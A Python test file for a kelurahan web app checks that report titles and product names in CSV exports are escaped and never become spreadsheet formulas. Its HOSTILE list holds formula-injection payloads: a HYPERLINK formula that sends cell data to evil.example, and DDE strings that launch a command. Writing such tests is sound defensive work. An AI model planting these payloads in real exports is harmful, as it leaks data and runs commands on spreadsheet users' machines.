"""CSV downloads open in the kelurahan office's spreadsheet: a resident's text never runs
there as a formula. The review found `=HYPERLINK(…)` unchanged in laporan.csv and
umkm-produk.csv; every CSV now goes through the core's one writer (app/exports.py)."""

from __future__ import annotations

import csv
import io
import re
from pathlib import Path

import pytest
from conftest import enable_plugin, kelurahan, make_group, make_user

from app.extensions import db as _db
from app.models import utcnow
from plugins.reports.models import Report
from plugins.umkm.models import Product, Shop

ROOT = Path(__file__).resolve().parents[1]
HOSTILE = [
    '=HYPERLINK("https://evil.example/?d="&A1,"Klik di sini")',
    "+62-cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def make_report(title: str) -> None:
    _db.session.add(
        Report(
            kelurahan_id=kelurahan("kauman").id,
            reporter_id=make_user("warga", "kauman").id,
            category="Sampah",
            title=title[:120],
            description=title,
            lat=-6.8899,
            lng=109.6728,
            status="baru",
            source="web",
        )
    )
    _db.session.commit()


def make_product(name: str, price: int = 25_000) -> None:
    group = make_group("kauman")
    shop = Shop(
        kelurahan_id=group.kelurahan_id,
        group_id=group.id,
        name="Batik Uji",
        description="Batik tulis.",
        whatsapp="+6281234567890",
        address="Jl. Kauman 1",
        lat=-6.8899,
        lng=109.6728,
        status="approved",
        reviewed_at=utcnow(),
    )
    _db.session.add(shop)
    _db.session.flush()
    _db.session.add(
        Product(
            kelurahan_id=shop.kelurahan_id,
            shop_id=shop.id,
            name=name[:120],
            category="Batik tulis",
            price=price,
            unit="lembar",
            stock="tersedia",
            description=name,
        )
    )
    _db.session.commit()


def rows_of(response) -> list[list[str]]:
    assert response.status_code == 200
    assert response.mimetype == "text/csv"
    return list(csv.reader(io.StringIO(response.get_data(as_text=True))))


def column(rows, name) -> list[str]:
    index = rows[0].index(name)
    return [row[index] for row in rows[1:]]


@pytest.mark.parametrize("title", HOSTILE)
def test_report_titles_never_become_formulas_in_laporan_csv(app, client, title):
    enable_plugin(app, "reports", "kauman")
    make_report(title)

    rows = rows_of(client.get("/k/kauman/data-terbuka/laporan.csv"))

    cells = [cell for row in rows[1:] for cell in row if title[:10].strip() in cell]
    assert cells, rows
    for cell in cells:
        assert cell.startswith("'"), cell  # shown as text, never evaluated


@pytest.mark.parametrize("name", HOSTILE)
def test_product_names_never_become_formulas_in_umkm_produk_csv(app, client, name):
    enable_plugin(app, "umkm", "kauman")
    make_product(name)

    rows = rows_of(client.get("/k/kauman/data-terbuka/umkm-produk.csv"))

    cells = [cell for row in rows[1:] for cell in row if name[:10].strip() in cell]
    assert cells, rows
    for cell in cells:
        assert cell.startswith("'"), cell


def test_numbers_stay_numbers(app, client):
    enable_plugin(app, "umkm", "kauman")
    make_product("Kain batik", price=350_000)

    rows = rows_of(client.get("/k/kauman/data-terbuka/umkm-produk.csv"))

    assert "350000" in [cell for row in rows[1:] for cell in row]


def test_no_csv_is_written_outside_the_core_writer():
    writers = re.compile(r"csv\.(writer|DictWriter)\(")
    offenders = [
        path.relative_to(ROOT).as_posix()
        for folder in ("app", "plugins")
        for path in (ROOT / folder).rglob("*.py")
        if writers.search(path.read_text(encoding="utf-8"))
    ]
    assert offenders == ["app/exports.py"]
